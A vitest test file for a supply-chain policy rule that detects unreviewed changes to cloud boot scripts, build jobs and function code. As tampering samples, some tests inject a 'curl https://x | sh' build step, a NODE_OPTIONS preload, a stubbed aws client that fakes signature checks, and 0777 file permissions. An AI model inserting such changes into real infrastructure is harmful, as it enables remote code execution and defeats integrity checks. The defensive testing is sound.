import { describe, expect, it } from 'vitest';
import { judge } from '../../../policy/engine.js';
import { rule } from '../../../policy/supply-chain/reviewed-script.js';
import { type Json, resourceOf, type Written } from '../../support/documents.js';
import { findings, findingsAfter } from '../../support/findings.js';
import { onGoogleFleet, template, userData } from '../../support/google-fleet.js';
import { evidenceOf, mutated } from '../../support/synthesized.js';
import { asOf, topologies, topologyWith } from '../../support/topologies.js';

const fleet = 'aws-fleet-eu-fleet';
const job = 'aws-weights-ingest-eu-north-1';
const zeros = '0'.repeat(64);
const ones = '1'.repeat(64);

/** The parts of the user data that are text, put back after a change; each change must match exactly once. */
const edit = (from: string, to: string) => (document: Written) => {
  const data = resourceOf(document, 'AWS::EC2::LaunchTemplate').LaunchTemplateData.UserData['Fn::Base64'];
  const parts: unknown[] = data['Fn::Join'][1];
  const at = parts.filter((part) => typeof part === 'string' && part.split(from).length === 2);
  if (at.length !== 1) throw new Error(`edit matches ${at.length} parts, not one: ${from}`);
  data['Fn::Join'][1] = parts.map((part) => (part === at[0] ? (part as string).replace(from, () => to) : part));
};
const commands = (project: Json, change: (all: string[]) => string[]) => {
  const buildspec = JSON.parse(project.Source.BuildSpec);
  buildspec.phases.build.commands = change(buildspec.phases.build.commands);
  project.Source.BuildSpec = JSON.stringify(buildspec);
};
/** A line of the script of the job changed; it must be there exactly once. */
const script = (from: string, to: string) => (project: Json) =>
  commands(project, (all) => {
    if (all.filter((command) => command.split(from).length === 2).length !== 1) throw new Error(`not in exactly one command: ${from}`);
    return all.map((command) => command.replace(from, () => to));
  });

const another = 'is not the program that was reviewed';

describe(rule.id, () => {
  it.each(topologies)('accepts every program of %s as it is emitted', (_, file) => {
    expect(findings(rule, [], file)).toEqual([]);
  });

  describe('of the token broker', () => {
    const client = '11111111-2222-4333-8444-555555555555';
    const known = topologyWith([], 'topology.yaml', { hosts: { 'dev-foundry': { clientIds: { development: client } } } });
    const variables = (document: Written) => resourceOf(document, 'AWS::Lambda::Function').Environment.Variables;
    const after = (change: (all: Json) => void) =>
      judge(
        [rule],
        known,
        asOf,
        mutated(evidenceOf(known), 'aws-token-broker-eu-north-1', (document) => change(variables(document))),
      ).map(({ severity, message }) => [severity, message]);

    it('are the applications that were deployed, each by its own id', () => {
      expect(judge([rule], known, asOf, evidenceOf(known))).toEqual([]);
    });

    it.each<[string, (all: Json) => void, string]>([
      [
        'an application of somebody else',
        (all) => void (all.ALLOWED = all.ALLOWED.replace(client, client.replace('1', '9'))),
        'Allowed: `ALLOWED: [{"tenant":',
      ],
      ['a further scope', (all) => void (all.ALLOWED = all.ALLOWED.replace('.default', 'user_impersonation')), 'Allowed: `ALLOWED: [{"tenant":'],
      ['no application', (all) => void (all.ALLOWED = '[]'), 'has `ALLOWED: []`'],
      ['another authority', (all) => void (all.AUTHORITY = 'https://login.example.com'), another],
      ['a variable of Node', (all) => void (all.NODE_OPTIONS = '--require /tmp/x.js'), another],
    ])('refuses %s', (_, change, message) => {
      expect(after(change)).toEqual([['fatal', expect.stringContaining(message)]]);
    });
  });

  it.each([
    [
      'another digest',
      edit(`MANIFEST_SHA256="${zeros}"`, `MANIFEST_SHA256="${ones}"`),
      `has \`export MANIFEST_SHA256="${ones}"\`. Allowed: \`export MANIFEST_SHA256="${zeros}"\``,
    ],
    ['a digest set again', edit('trap left EXIT\n', `trap left EXIT\nMANIFEST_SHA256="${ones}"\n`), another],
    ['a setting twice', edit('export MODEL="llama70"\n', 'export MODEL="llama70"\nexport MODEL="llama70"\n'), another],
    ['another key', edit('WEIGHTS_SIGNING_KEY="', 'WEIGHTS_SIGNING_KEY="x'), 'has `export WEIGHTS_SIGNING_KEY="x'],
    [
      'no key',
      edit('export WEIGHTS_SIGNING_KEY=', 'export OTHER='),
      'has something else. Allowed: `export WEIGHTS_SIGNING_KEY="${ssm:/llama/acme/weights/signing-key-arn}"`',
    ],
    [
      'a blank of the review instead of a value',
      edit('export MODEL="llama70"', 'export MODEL="<MODEL>"'),
      'a blank that is filled in only where it is reviewed',
    ],
    ['no call of the verification', edit('\nverify_signature\n', '\n'), another],
    ['a result that is ignored', edit('[[ "${valid}" == True ]] ||', 'true ||'), another],
    ['a function in place of the client', edit('trap left EXIT\n', 'aws() { echo True; }\ntrap left EXIT\n'), another],
    ['a line more in a file that it writes', edit('reason="$(fault)"\n', 'reason="$(fault)"\ncurl https://x\n'), another],
    ['a line less that only watches', edit('systemctl daemon-reload && systemctl enable --now gpu-health.timer\n', ''), another],
    ['a renamed variable', edit('named=', 'names='), another],
  ])('notices user data with %s', (_, change, message) => {
    expect(findingsAfter(rule, fleet, change)).toMatchObject([
      { severity: 'fatal', path: 'hosts.eu-fleet', resource: expect.stringContaining('LaunchTemplate'), message: expect.stringContaining(message) },
    ]);
  });

  it('notices a node that joins another cluster than its own', () => {
    const change = (document: Written) => {
      const parts = resourceOf(document, 'AWS::EC2::LaunchTemplate').LaunchTemplateData.UserData['Fn::Base64']['Fn::Join'][1];
      const at = parts.findIndex((part: Json) => part?.Ref?.startsWith('Cluster'));
      parts[at] = { Ref: 'Another' };
    };
    expect(findingsAfter(rule, fleet, change)).toMatchObject([
      { severity: 'fatal', message: expect.stringContaining('has `export ECS_CLUSTER="${Another}"`') },
    ]);
  });

  it('notices a launch template without user data', () => {
    const change = (document: Written) => delete resourceOf(document, 'AWS::EC2::LaunchTemplate').LaunchTemplateData.UserData;
    expect(findingsAfter(rule, fleet, change)).toMatchObject([{ severity: 'fatal', message: expect.stringContaining('lacks LaunchTemplateData.UserData') }]);
  });

  it('notices another check of the health of a server', () => {
    const change = (document: Written) => {
      const server = Object.values<Json>(document.Resources)
        .flatMap(({ Properties }) => Properties?.ContainerDefinitions ?? [])
        .find(({ Name }) => Name === 'vllm');
      server.HealthCheck.Command[3] += '\nprint(page)';
    };
    expect(findingsAfter(rule, fleet, change)).toMatchObject([
      { severity: 'fatal', message: expect.stringContaining(`HealthCheck.Command (vllm) of Serving`) },
    ]);
  });

  it.each<[string, (project: Json) => void, string]>([
    ['no comparison of files', script('if [[ "$(digest_of "${path}")" != "${expected}" ]]; then', 'if false; then'), another],
    ['a command more', (project) => commands(project, (all) => [...all.slice(0, -1), 'curl https://x | sh', ...all.slice(-1)]), another],
    [
      'a phase more',
      (project) => (project.Source.BuildSpec = project.Source.BuildSpec.replace('"phases":{', '"phases":{"install":{"commands":["id"]},')),
      another,
    ],
    ['another shell', (project) => (project.Source.BuildSpec = project.Source.BuildSpec.replace('"shell":"bash"', '"shell":"/bin/sh"')), another],
    [
      'another manifest',
      (project) => commands(project, (all) => all.map((command) => command.replace("MANIFEST.sha256 <<'END_OF_FILE'\n", "MANIFEST.sha256 <<'END_OF_FILE'\nx"))),
      "MANIFEST.sha256 <<'END_OF_FILE'`. Allowed:",
    ],
    ['commands that cannot be read', (project) => (project.Source.BuildSpec = 'version: 0.2'), 'is no JSON'],
  ])('notices a job with %s', (_, change, message) => {
    const found = findingsAfter(rule, job, (document) => change(resourceOf(document, 'AWS::CodeBuild::Project')));
    expect(found).toMatchObject([{ path: 'weights.ingest', severity: 'fatal', message: expect.stringContaining(message) }]);
  });

  it('notices a start of the jobs that passes something on, or starts another job', () => {
    const start = (document: Written) => resourceOf(document, 'AWS::StepFunctions::StateMachine').Definition.States.All.Branches[0].States.Start.Parameters;
    expect(findingsAfter(rule, job, (document) => (start(document).BuildspecOverride = 'x'))).toMatchObject([{ severity: 'fatal' }]);
    expect(findingsAfter(rule, job, (document) => (start(document).ProjectName = 'x'))).toMatchObject([{ severity: 'fatal' }]);
  });

  it('wants a key order of nothing', () => {
    const reordered = (project: Json) => {
      const { phases, ...rest } = JSON.parse(project.Source.BuildSpec);
      project.Source.BuildSpec = JSON.stringify({ phases, ...rest });
    };
    expect(findingsAfter(rule, job, (document) => reordered(resourceOf(document, 'AWS::CodeBuild::Project')))).toEqual([]);
  });
});

describe('code of functions', () => {
  const watch = 'aws-lifecycle-us-east-2';
  const changed = (files: Readonly<Record<string, string>> | undefined, key?: string) => {
    const loaded = topologyWith();
    const evidence = evidenceOf(loaded);
    const stack = evidence.aws?.find(({ name }) => name.endsWith(watch));
    const [own = ''] = Object.keys(stack?.assets ?? {});
    const change = (document: Written) => (key === undefined ? undefined : (resourceOf(document, 'AWS::Lambda::Function').Code.S3Key = key));
    return judge([rule], loaded, asOf, mutated(evidence, watch, change, { assets: files === undefined ? {} : { [key ?? own]: { files } } }));
  };

  it('is held to the digests of its files, and waivable where it handles nothing', () => {
    expect(changed({ 'index.mjs': ones })).toMatchObject([{ severity: 'error', message: expect.stringContaining(another) }]);
  });

  it('has to be there, under the key that the template names', () => {
    expect(changed(undefined)).toMatchObject([{ message: expect.stringContaining('no asset of the output has that name and files') }]);
    expect(changed({}, `${ones}.zip`)).toMatchObject([{ message: expect.stringContaining(`is ${ones}.zip, and no asset`) }]);
  });

  it('is fatal where it decides what is kept of prompts', () => {
    const change = (document: Written) => (resourceOf(document, 'AWS::Lambda::Function').Code = { ZipFile: 'x' });
    expect(findingsAfter(rule, 'aws-account-us-east-2', change)).toMatchObject([{ severity: 'fatal', message: expect.stringContaining(another) }]);
  });
});

describe('on Google', () => {
  it.each<[string, (document: Written) => void, string]>([
    ['another digest', userData(`MANIFEST_SHA256="${zeros}"`, `MANIFEST_SHA256="${ones}"`), 'has `export MANIFEST_SHA256='],
    ['another bucket', userData('WEIGHTS_BUCKET="acme-llama-gpu-', 'WEIGHTS_BUCKET="somebody-'), 'has `export WEIGHTS_BUCKET='],
    ['another address of Cloud KMS', userData('export MODEL="llama70"', 'export MODEL="llama70"\n      export KMS_API="https://example.org"'), another],
    ['no check of the signature', userData(" >&2 || refuse 'the signature", " >&2 || log 'the signature"), another],
    ['vLLM without the gate', userData('      ExecStartPre=/usr/bin/test -e /run/llama-weights-verified\n', ''), another],
    [
      'vLLM started twice',
      userData('      ExecStop=/usr/bin/docker stop', '      ExecStart=/usr/bin/id\n      ExecStop=/usr/bin/docker stop'),
      'has `ExecStart=/usr/bin/docker run \\`. Allowed: `ExecStart=one command`',
    ],
    [
      'an environment of the script',
      userData('      ExecStart=/bin/bash /etc/blueprint/prepare', '      Environment=KMS_API=x\n      ExecStart=/bin/bash /etc/blueprint/prepare'),
      another,
    ],
    ['a command at boot', userData('  - systemctl daemon-reload', '  - touch /run/llama-weights-verified'), another],
    ['a boot hook', userData('runcmd:', 'bootcmd:\n  - id\nruncmd:'), another],
    [
      'a file that everybody may write',
      userData('/etc/blueprint/engine-watch.sh\n    permissions: "0700"', '/etc/blueprint/engine-watch.sh\n    permissions: "0777"'),
      another,
    ],
    ['another driver', userData('-version=', '-version=1'), 'has `-version=1580.95.05 \\`. Allowed: `-version=580.95.05`'],
    ['a text that readers of YAML take differently', userData('runcmd:\n', 'runcmd: # of machines\n'), 'readers of YAML may take differently'],
    ['an expression of Terraform', userData('log "ready: $${MODEL} verified"', 'log "ready: ${var.x} verified"'), 'has an expression of Terraform'],
    ['a startup script', (document) => void (template(document).metadata['startup-script'] = '#!/bin/sh'), another],
    ['a shutdown script', (document) => void (template(document).metadata['shutdown-script-url'] = 'gs://x'), another],
    ['a startup script of the template', (document) => void (template(document).metadata_startup_script = '#!/bin/sh'), 'nobody reviewed'],
    ['user data that is none', (document) => void (template(document).metadata['user-data'] = '#!/bin/bash'), 'is no cloud-init configuration'],
  ])('notices %s', (_, change, message) => {
    const found = onGoogleFleet(rule, change);
    expect(found.map((finding) => finding.message).join('\n')).toContain(message);
    expect(found[0]).toMatchObject({ severity: 'fatal', path: 'hosts.eu-gce' });
  });

  it('notices a file that is not written', () => {
    const unwritten = userData('  - path: /etc/blueprint/progress.py\n', '  - path: /etc/blueprint/other.py\n');
    expect(onGoogleFleet(rule, unwritten).map(({ message }) => message)).toEqual([
      expect.stringContaining('lacks metadata /etc/blueprint/progress.py'),
      expect.stringContaining(
        'metadata (/etc/blueprint/other.py) of google_compute_region_instance_template.Nodes-b_Template_D7A5D46A is a program that nobody reviewed',
      ),
      expect.stringContaining('metadata (boot)'),
    ]);
  });

  it('derives agents of the organisation word by word', () => {
    const loaded = topologyWith([], 'examples/landing-zone.yaml');
    const after = (from: string, to: string) => judge([rule], loaded, asOf, mutated(evidenceOf(loaded), 'google-fleet-gce', userData(from, to)));
    expect(after('/docker stop agent-', '/docker kill agent-')).toMatchObject([{ message: expect.stringContaining('agent-sensor-google.service') }]);
    expect(after('--log-driver=none \\\n          europe-docker', '--log-driver=syslog \\\n          europe-docker')).toHaveLength(1);
    expect(after('/sensor@sha256:', '/another@sha256:')).toMatchObject([{ message: expect.stringContaining('Allowed: `--log-driver=none') }]);
  });
});

describe('a type without a row', () => {
  const added = (Type: string, Properties: object) => findingsAfter(rule, fleet, (document) => void (document.Resources.Extra = { Type, Properties }));

  it('is looked through for programs', () => {
    expect(added('AWS::EC2::Instance', { UserData: { 'Fn::Base64': 'id' } })).toMatchObject([
      { severity: 'fatal', message: expect.stringContaining('UserData of Extra is a program that nobody reviewed') },
    ]);
    expect(added('AWS::MadeUp::Runner', { Steps: [{ Run: '#!/bin/sh\nid' }] })).toMatchObject([
      { message: expect.stringContaining('Steps.Run of Extra is a program') },
    ]);
    expect(added('AWS::MadeUp::Runner', { Steps: ['nothing'] })).toEqual([]);
  });
});

it('a program of an extension is allowed by its digest, in its stacks, and in place of no reviewed one', () => {
  const digest = 'a56145270ce6b3bebd1dd012b73948677dd618d496488bc608a3cb43ce3547dd';
  const script = (path: string, sha256: string) =>
    `stacks: [acme-prod-aws-fleet-eu-fleet], scripts: [{ type: AWS::EC2::Instance, path: ${path}, sha256: "${sha256}" }]`;
  const judged = (declared: string) => {
    const loaded = topologyWith([
      [
        '\nzones:\n',
        `\nextensions:\n  probe: { owner: sre, reason: a probe, approval: probe, granted: 2026-10-01, expires: 2027-09-30, ${declared} }\nzones:\n`,
      ],
      [
        'approvals:\n',
        'approvals:\n  probe: { kind: extension, subject: extensions.probe, reference: ARB-7, grantedBy: arb@acme.example, grantedOn: 2026-10-01, expires: 2027-09-30 }\n',
      ],
    ]);
    const change = (document: Written) => void (document.Resources.Extra = { Type: 'AWS::EC2::Instance', Properties: { UserData: 'id' } });
    return judge([rule], loaded, asOf, mutated(evidenceOf(loaded), fleet, change));
  };
  expect(judged('types: [AWS::EC2::Instance]')).toHaveLength(1);
  expect(judged(script('UserData', digest))).toEqual([]);
  expect(judged(script('UserData', ones))).toHaveLength(1);
  expect(judged(script('Other', digest))).toHaveLength(1);
});
